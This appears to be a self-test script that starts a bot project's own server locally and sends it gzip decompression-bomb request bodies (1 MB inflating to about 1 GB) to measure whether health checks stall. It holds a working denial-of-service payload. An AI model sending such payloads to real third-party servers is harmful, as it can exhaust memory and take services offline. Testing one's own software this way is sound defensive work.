# ruff: noqa: E501, SIM115, B023
"""Unauthenticated compressed bodies against the real `python -m bot serve` (auth on): a 1 MB gzip body of
zeros (about 1 GB inflated), one and four at once, while /healthz is polled. Prints the 4xx's time and the
slowest /healthz. Run: .venv/bin/python attack/gzip_stall.py
"""

import gzip
import os
import resource
import socket
import subprocess
import sys
import tempfile
import threading
import time

PORT = 39733
ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))


def _cap():
    resource.setrlimit(resource.RLIMIT_AS, (2 << 30, 2 << 30))


def send(raw, timeout=120.0):
    started = time.monotonic()
    try:
        with socket.create_connection(("127.0.0.1", PORT), timeout=timeout) as s:
            s.sendall(raw)
            data = s.recv(4096)
        return data.split(b"\r\n", 1)[0].decode(errors="replace") or "<closed>", time.monotonic() - started
    except OSError as error:
        return f"<{type(error).__name__}>", time.monotonic() - started


payload = gzip.compress(b"\0" * 1_000_000_000, compresslevel=9)
while len(payload) < 1_000_000:  # pad to 1 MB with more compressed members
    payload += gzip.compress(b"\0" * 10_000_000, compresslevel=9)
raw = (b"POST /api/messages HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Encoding: gzip\r\n"
       b"Content-Length: %d\r\n\r\n" % len(payload)) + payload  # fmt: skip
env = {**os.environ, "PORT": str(PORT), "MICROSOFT_APP_ID": "00000000-0000-0000-0000-000000000001",
       "MICROSOFT_APP_PASSWORD": "not-a-secret", "STATE_DB": os.path.join(tempfile.mkdtemp(), "s.db"),
       "KNOWLEDGE_DIR": os.path.join(ROOT, "docs")}  # fmt: skip
server = subprocess.Popen([sys.executable, "-m", "bot", "serve"], cwd=ROOT, env=env, stdout=subprocess.DEVNULL,
                          stderr=subprocess.DEVNULL, preexec_fn=_cap)  # fmt: skip
try:
    for _ in range(100):
        try:
            socket.create_connection(("127.0.0.1", PORT), timeout=1).close()
            break
        except OSError:
            time.sleep(0.2)
    print(f"body {len(payload):,} bytes gzip")
    for n in (1, 4):
        results = []
        threads = [threading.Thread(target=lambda: results.append(send(raw))) for _ in range(n)]
        for t in threads:
            t.start()
        worst = 0.0
        while any(t.is_alive() for t in threads):
            _, took = send(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
            worst = max(worst, took)
            time.sleep(0.05)
        time.sleep(0.5)
        for _ in range(200):  # the server may still be inflating after it answered
            _, took = send(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
            worst = max(worst, took)
            if took < 0.05:
                break
        print(f"{n} at once: {[(s, round(t, 2)) for s, t in results]} | slowest /healthz {worst:.2f} s")
finally:
    server.kill()
    server.wait()
